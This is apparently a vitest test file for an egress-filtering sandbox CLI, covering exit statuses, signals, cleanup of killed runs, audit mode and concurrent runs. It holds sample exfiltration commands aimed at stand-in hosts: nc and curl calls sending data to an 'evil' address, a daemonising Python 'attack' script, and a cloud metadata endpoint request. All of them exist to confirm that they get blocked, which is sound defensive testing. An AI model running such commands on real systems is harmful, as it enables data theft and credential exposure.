import { type ChildProcess, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { CLI, exit, Lab, reached, WORLD } from './lab.ts';
import { leftBehind, newlyLeft } from './left-behind.ts';

/** How a run ends: exit statuses, signals, what is left, what happens when its parts are killed. */
let lab: Lab;
beforeAll(async () => {
  lab = await Lab.start();
});
afterAll(() => lab?.stop());
let before: string[];
beforeEach(() => {
  before = leftBehind(lab.job);
});
afterEach(() => {
  expect(newlyLeft(lab.job, before)).toEqual([]);
});

describe('exit status', () => {
  test.each([
    [['true'], 0],
    [['sh', '-c', 'exit 7'], 7],
    [['sh', '-c', 'kill -TERM $$'], 143],
  ])('%j gives %i', async (argv, status) => {
    expect((await lab.run(argv)).status).toBe(status);
  });

  const denied = ['sh', '-c', `curl -s -m 60 http://${WORLD.evil}/; true`];
  test('3 with --fail-on-deny when the command succeeded but something was denied', async () => {
    expect((await lab.run(denied, { args: ['--fail-on-deny'] })).status).toBe(3);
    expect((await lab.run(denied)).status).toBe(0);
    expect((await lab.run(['true'], { args: ['--fail-on-deny'] })).status).toBe(0);
    expect((await lab.run(['sh', '-c', `curl -s -m 60 http://${WORLD.evil}/; exit 9`], { args: ['--fail-on-deny'] })).status).toBe(9);
  });
});

test.each(['SIGINT', 'SIGTERM', 'SIGHUP'] as const)('%s reaches the command', async (signal) => {
  const child = lab.spawn(['sh', '-c', `trap 'echo got it; exit 5' ${signal.slice(3)}; echo started; while :; do sleep 0.1; done`]);
  const output = await until(child, 'started');
  guardOf(child).kill(signal);
  expect(await exit(child, 10_000)).toBe(5);
  expect(output()).toContain('got it');
});

test('a signal to the whole group, as timeout(1) sends one, leaves the command its network to end with', async () => {
  const script = `trap 'curl -sS -m 60 https://ok.test/; exit 5' TERM; echo started; while :; do sleep 0.1; done`;
  const child = lab.spawn(['sh', '-c', script], { policy: 'ok.test', under: ['setsid'] });
  const output = await until(child, 'started');
  process.kill(-(child.pid ?? 0), 'SIGTERM');
  expect(await exit(child, 60_000)).toBe(5);
  expect(output()).toContain('hello from ok.test');
});

test('what the command leaves in the background is killed before the filter goes', async () => {
  const attack = `import os,socket,time
if os.fork(): os._exit(0)
os.setsid()
if os.fork(): os._exit(0)
for i in range(80):
    try: socket.create_connection(('${WORLD.evil}', 9999), timeout=1).sendall(b'late')
    except OSError: pass
    time.sleep(0.05)`;
  const result = await lab.run(['/usr/bin/python3', '-c', attack]);
  await sleep(2000);
  expect(result.status).toBe(0);
  expect(lab.witnessed()).toEqual([]);
});

test('a killed proxy means no network, never an open one, and the run says so', async () => {
  const child = lab.spawn(
    [
      'sh',
      '-c',
      `echo started; read x; curl -sS -m 60 https://ok.test/; curl -sS -m 60 http://${WORLD.evil}/; echo secret | nc -u -w1 ${WORLD.evil} 9999; echo done`,
    ],
    { policy: 'ok.test' },
  );
  const output = await until(child, 'started');
  const mark = lab.marks();
  process.kill(pidOf('egress-filter-proxy', child), 'SIGKILL');
  await sleep(200);
  child.stdin?.end('go\n');
  expect(await exit(child, 30_000)).toBe(0);
  expect(output()).toContain('done');
  expect(output()).toContain('no network from here on');
  const seen = lab.since(mark);
  expect(reached(seen, WORLD.evil)).toEqual([]);
  expect(reached(seen, WORLD.ok)).toEqual([]);
  expect(seen.seen.filter(({ kind }) => kind === 'dns')).toEqual([]);
});

test('a killed guard leaves the command without network, and clean removes everything', async () => {
  const attack = `echo started; while :; do curl -s -m 1 http://${WORLD.evil}/; curl -s -m 1 http://ok.test/; sleep 0.2; done`;
  const child = lab.spawn(['sh', '-c', attack]);
  await until(child, 'started');
  const guard = guardOf(child);
  const command = commandPids();
  expect(command.length).toBeGreaterThan(0);
  const mark = lab.marks();
  guard.kill('SIGKILL');
  await sleep(1500);
  expect(reached(lab.since(mark), WORLD.evil)).toEqual([]);
  expect(reached(lab.since(mark), WORLD.ok)).toEqual([]);
  expect(newlyLeft(lab.job, before)).not.toEqual([]);

  // From another network namespace than the run's: clean finds it.
  const cleaned = spawnSync(CLI, ['clean'], { encoding: 'utf8', env: { PATH: process.env.PATH ?? '' } });
  expect(cleaned.stdout).toMatch(/Removed what \d+ killed run\(s\) left/);
  expect(cleaned.status).toBe(0);
  expect(newlyLeft(lab.job, before)).toEqual([]);
  for (const pid of command) expect(runs(pid)).toBe(false);
  expect(spawnSync(CLI, ['clean'], { encoding: 'utf8' }).stdout).toContain('Nothing was left behind.\n');
});

test('clean leaves a run that goes on alone', async () => {
  const child = lab.spawn(['sh', '-c', 'echo started; read x; curl -sS -m 60 https://ok.test/'], { policy: 'ok.test' });
  const output = await until(child, 'started');
  const cleaned = spawnSync(CLI, ['clean', '--json'], { encoding: 'utf8' });
  expect(JSON.parse(cleaned.stdout)).toMatchObject({
    alive: expect.arrayContaining([expect.stringMatching(/^[0-9a-f]{8}$/)]),
    removed: [],
    problems: [],
  });
  child.stdin?.end('go\n');
  expect(await exit(child, 20_000)).toBe(0);
  expect(output()).toContain('hello from ok.test');
});

test('clean leaves a run alone whose state it does not see, as in a container with a /run of its own', async () => {
  const child = lab.spawn(['sh', '-c', 'echo started; read x; curl -sS -m 60 https://ok.test/'], { policy: 'ok.test' });
  const output = await until(child, 'started');
  const hide = 'mount -t tmpfs none /run && exec "$@"';
  const cleaned = spawnSync('unshare', ['-m', 'sh', '-c', hide, 'sh', CLI, 'clean', '--json'], { encoding: 'utf8' });
  expect(JSON.parse(cleaned.stdout).alive).toContain(runOf(lab.job));
  child.stdin?.end('go\n');
  expect(await exit(child, 20_000)).toBe(0);
  expect(output()).toContain('hello from ok.test');
});

test('several runs at a time do not disturb each other', async () => {
  const argv = ['sh', '-c', 'curl -sS -m 60 https://ok.test/ && curl -sS -m 60 https://other.test/'];
  const [ok, other, both] = await Promise.all([
    lab.run(argv, { policy: 'ok.test' }),
    lab.run(argv, { policy: 'other.test' }),
    lab.run(argv, { policy: 'ok.test\nother.test' }),
  ]);
  expect(ok.stdout).toContain('hello from ok.test/');
  expect(ok.stdout).not.toContain('hello from other.test/');
  expect(other.stdout).not.toContain('hello from ok.test/');
  expect(both.stdout).toMatch(/hello from ok\.test\/[\s\S]*hello from other\.test\//);
  expect(other.log.every(({ rule }) => !rule?.includes('ok.test'))).toBe(true);
});

test('in audit everything passes, as asked, and the line says what would have been denied', async () => {
  const result = await lab.run(['sh', '-c', `curl -sS https://evil.test/ && curl -sS http://${WORLD.evil}/ && dig +short evil.test`], {
    args: ['--audit'],
  });
  expect(result.stdout).toMatch(/hello from evil\.test\/[\s\S]*hello from 203\.0\.113\.66\/[\s\S]*203\.0\.113\.66/);
  const would = result.log.filter(({ policy }) => policy === 'deny');
  expect(would.every(({ audit }) => audit === true)).toBe(true);
  expect(would.map(({ type }) => type)).toEqual(expect.arrayContaining(['dns', 'https', 'http']));
  expect(would.find(({ type }) => type === 'https')?.suggestion).toBe('evil.test');
  expect(result.stderr).toMatch(/audit/i);
});

test('guardrails hold in audit', async () => {
  const result = await lab.run(['curl', '-sS', '-m', '5', 'http://169.254.169.254/latest'], { args: ['--audit'] });
  expect(reached(result, '169.254.169.254')).toEqual([]);
  expect(result.log.find(({ policy }) => policy === 'deny')?.audit).toBeUndefined();
});

test('the rest of the machine is not disturbed: others in the namespace keep their network', async () => {
  const child = lab.spawn(['sh', '-c', 'echo started; read x']);
  await until(child, 'started');
  expect(lab.unfiltered(['curl', '-sS', '--cacert', lab.caPath, 'https://evil.test/']).stdout).toContain('hello from evil.test');
  child.stdin?.end('\n');
  await exit(child, 10_000);
});

/** Id of the run in a network namespace. */
function runOf(netns: string): string | undefined {
  const inode = String(statSync(`/run/netns/${netns}`).ino);
  return readdirSync('/run/egress-filter').find((id) => {
    try {
      return JSON.parse(readFileSync(`/run/egress-filter/${id}/state.json`, 'utf8')).netns === inode;
    } catch {
      // Somebody else's, which has ended meanwhile.
      return false;
    }
  });
}

/** Resolves when the text was printed; gives everything printed so far, both streams. */
async function until(child: ChildProcess, text: string): Promise<() => string> {
  let output = '';
  for (const stream of [child.stdout, child.stderr]) {
    stream?.on('data', (chunk) => {
      output += String(chunk);
    });
  }
  for (let waited = 0; waited < 15_000; waited += 20) {
    if (output.includes(text)) return () => output;
    if (child.exitCode !== null) break;
    await sleep(20);
  }
  throw new Error(`"${text}" was not printed; this was: ${output}`);
}

/** `ip netns exec` and the launcher replace themselves, so the child is the guard. */
function guardOf(child: ChildProcess): { kill(signal: NodeJS.Signals): void } {
  return { kill: (signal) => void process.kill(child.pid ?? 0, signal) };
}

function pidOf(name: string, child: ChildProcess): number {
  const found = readdirSync('/proc')
    .filter((entry) => /^\d+$/.test(entry))
    .find((pid) => {
      try {
        const command = readFileSync(`/proc/${pid}/cmdline`, 'utf8');
        const parent = /^PPid:\t(\d+)$/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1];
        return command.startsWith(`${name}\0`) && parent === String(child.pid);
      } catch {
        // It ended while we looked.
        return false;
      }
    });
  if (!found) throw new Error(`no process ${name} below ${child.pid}`);
  return Number(found);
}

/** A zombie does not: it waits for a parent that the guard's end gave it, which may be in no hurry. */
function runs(pid: number): boolean {
  try {
    return !/^State:\s+Z/m.test(readFileSync(`/proc/${pid}/status`, 'utf8'));
  } catch {
    return false;
  }
}

/** Where all runs have their cgroups. */
function cgroupParent(): string {
  const mount = readFileSync('/proc/self/mountinfo', 'utf8')
    .split('\n')
    .find((line) => line.includes(' - cgroup2 '))
    ?.split(' ')[4];
  return join(mount ?? '', 'egress-filter');
}

function commandPids(): number[] {
  const parent = cgroupParent();
  return readdirSync(parent).flatMap((id) => {
    const procs = join(parent, id, 'command', 'cgroup.procs');
    return existsSync(procs) ? readFileSync(procs, 'utf8').split('\n').filter(Boolean).map(Number) : [];
  });
}

test('a later run is not told by what conntrack remembers of an earlier one', async () => {
  // The same source port to the same place each time; the proxy resets the connection, after which conntrack keeps its entry for 10 s.
  const connect = `import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.settimeout(2); s.bind(("0.0.0.0", 41999))
try:
    s.connect(("${WORLD.evil}", 9999)); s.sendall(b"x"); print("answer", s.recv(10))
except OSError as error: print(type(error).__name__)`;
  for (const _ of [1, 2, 3]) {
    const result = await lab.run(['/usr/bin/python3', '-c', connect]);
    expect(reached(result, WORLD.evil)).toEqual([]);
    expect(
      result.log.filter(({ type, dst_port }) => type === 'tcp' && dst_port === 9999),
      result.stdout,
    ).toHaveLength(1);
  }
});

test('clean leaves alone what it does not know: the cgroups of a run that begins at this moment', () => {
  const beginning = join(cgroupParent(), 'beginning', 'command');
  mkdirSync(beginning, { recursive: true });
  try {
    expect(spawnSync(CLI, ['clean'], { env: { PATH: process.env.PATH ?? '' } }).status).toBe(0);
    expect(existsSync(beginning)).toBe(true);
  } finally {
    rmdirSync(beginning);
    rmdirSync(join(cgroupParent(), 'beginning'));
  }
  expect(spawnSync(CLI, ['clean'], { env: { PATH: process.env.PATH ?? '' } }).status).toBe(0);
  expect(existsSync(cgroupParent())).toBe(false);
});
